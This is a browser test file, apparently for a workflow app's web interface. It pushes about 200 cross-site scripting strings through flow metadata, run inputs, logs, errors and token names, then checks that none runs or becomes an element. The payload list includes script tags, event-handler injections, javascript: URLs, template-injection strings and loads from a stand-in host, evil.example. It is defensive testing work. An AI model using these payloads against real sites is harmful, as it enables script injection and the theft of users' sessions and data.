"""Texts that would run in a careless page, wherever a flow or a person can put one: they are shown, and nothing else happens.

None may run, none may become an element, and none may even be kept from running by the policy of the page, since that would
mean that it had become code.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from itertools import islice, product

import pytest
from playwright.sync_api import expect

from tests.browser.person import Person

pytestmark = pytest.mark.xdist_group("browser")

COUNT = 200
RUN = "window.hit=1"
PAYLOADS = (
    *("<script data-hit>@</script>", "<script data-hit src=//evil.example/x.js></script>", "<img data-hit src=x onerror=@>"),
    *("<svg data-hit onload=@>", "<svg data-hit><script>@</script></svg>", "<iframe data-hit srcdoc='<script>@</script>'>"),
    *("<body data-hit onload=@>", "<details data-hit open ontoggle=@>", "<video data-hit><source onerror=@></video>"),
    *("<input data-hit autofocus onfocus=@>", "<a data-hit href='javascript:@'>x</a>", "<math data-hit><mi xlink:href='javascript:@'>"),
    *("<object data-hit data='javascript:@'>", "<embed data-hit src='javascript:@'>", "<base data-hit href='//evil.example/'>"),
    *("<form data-hit action='javascript:@'><button>x</form>", "<meta data-hit http-equiv=refresh content='0;url=javascript:@'>"),
    *("<style data-hit>@import '//evil.example/'</style>", "<link data-hit rel=stylesheet href='//evil.example/'>"),
    *("<marquee data-hit onstart=@>", "<table data-hit background='javascript:@'>", "<template data-hit><script>@</script></template>"),
    *("<noscript><p title='</noscript><img data-hit src=x onerror=@>'>", "<!--><img data-hit src=x onerror=@>-->"),
    *("<svg data-hit><animate onbegin=@ attributeName=x dur=1s>", "<svg data-hit><foreignObject><script>@</script>"),
    *("javascript:@", "data:text/html,<script data-hit>@</script>", "{{constructor.constructor('@')()}}", "${@}", "#{@}", "<%= @ %>"),
    *("');@;('", '";@;"', "\\';@//", "`;@;`", "\u2028@\u2029", "[x](javascript:@)", "![x](x onerror=@)", "//evil.example/@"),
)  # fmt: skip
DISGUISES = ("@", "\"'>@", "</script></textarea></title></style>@", "]]>@<![CDATA[", "&lt;x&gt;@")
"""What leaves the place in which a text may stand."""

FLOW = """
metadata: {name: hostile, description: %s, labels: %s}
nodes:
  given: {type: transform, params: {value: "${input.all}"}, next: said}
  said: {type: script, hooks: {exec: "for (const one of input.all) log(one); return 1"}, params: {}, inputs: {}, next: fails}
  fails: {type: script, hooks: {exec: "throw new Error(input.all.slice(0, 40).join(' '))"}}
""".replace(", params: {}, inputs: {}", "")


def hostile() -> list[str]:
    """So many texts, each of them another one."""
    made = (disguise.replace("@", text) for disguise, text in product(DISGUISES, PAYLOADS))
    return [text.replace("@", f"{RUN}+{number}") for number, text in enumerate(islice(made, COUNT))]


def watched(person: Person) -> Iterator[str]:
    """What has happened that should not have; the page tells of scripts, elements and refused code, the browser of the rest."""
    page = person.page
    if page.evaluate("window.hit !== undefined"):
        yield "a text was run"
    if count := page.locator("[data-hit]").count():
        yield f"{count} texts became elements"
    yield from person.complaints


def test_no_text_runs(person: Person) -> None:
    """As description, labels, input, output, log line, error and name, in every view and every tab of a run."""
    texts = hostile()
    assert len(set(texts)) == COUNT
    page, called = person.page, list[str]()
    page.on("dialog", lambda dialog: called.append(dialog.message))
    page.on("request", lambda request: called.append(request.url))
    person.log_in()
    labels = {f"l{number}": text[:60] for number, text in enumerate(texts[:20])}
    flow = person.flow(FLOW % (json.dumps(" ".join(texts[:20])[:1000], ensure_ascii=True), json.dumps(labels)))
    for text in texts[:20]:
        person.call(
            "POST",
            "/v1/tokens",
            {"name": text[:100].replace("\u2028", " ").replace("\u2029", " "), "scopes": ["flows:read"]},
        )
    run = person.call("POST", f"/v1/flows/{flow}/runs", {"input": {"all": texts}})["id"]
    person.go(f"/runs/{run}")
    expect(page.locator("main header").get_by_text("failed", exact=True).first).to_be_visible()
    shown = set[str]()
    for node in ("given", "said", "fails"):
        person.choose(node)
        for tab in page.get_by_role("tab").all():
            tab.click()
            expect(tab).to_have_attribute("aria-selected", "true")
            shown |= {f"{node}: {tab.inner_text()}"} if "data-hit" in page.locator("main").inner_text() else set()
        assert [*watched(person)] == [], node
    for place in ("/flows", f"/flows/{flow}", "/runs", "/tokens", "/audit", "/usage"):
        person.go(place)
        expect(page.locator("main h1")).to_be_visible()
        expect(page.locator("main").get_by_text("Loading", exact=True)).to_have_count(0)
        shown |= {place} if "data-hit" in page.locator("main").inner_text() else set()
        assert [*watched(person)] == [], place
    assert {place.partition(":")[0] for place in shown} >= {
        "given",
        "said",
        "fails",
        "/flows",
        f"/flows/{flow}",
        "/tokens",
    }
    assert [url for url in called if not url.startswith((person.url, "data:", "blob:"))] == []


def test_it_would_be_noticed(person: Person) -> None:
    """A text that became an element would be seen, and the page's policy still keeps it from running."""
    person.log_in()
    page = person.page.context.new_page()  # nobody listens to what this one complains of
    page.goto(f"{person.url}/flows")
    expect(page.locator("main h1")).to_be_visible()
    refused = page.evaluate(
        """text => new Promise(done => {
            document.addEventListener('securitypolicyviolation', event => done(event.effectiveDirective));
            document.body.insertAdjacentHTML('beforeend', text);
        })""",
        hostile()[2],
    )
    assert refused == "script-src-attr"
    assert [*watched(replace(person, page=page))] == ["1 texts became elements"]
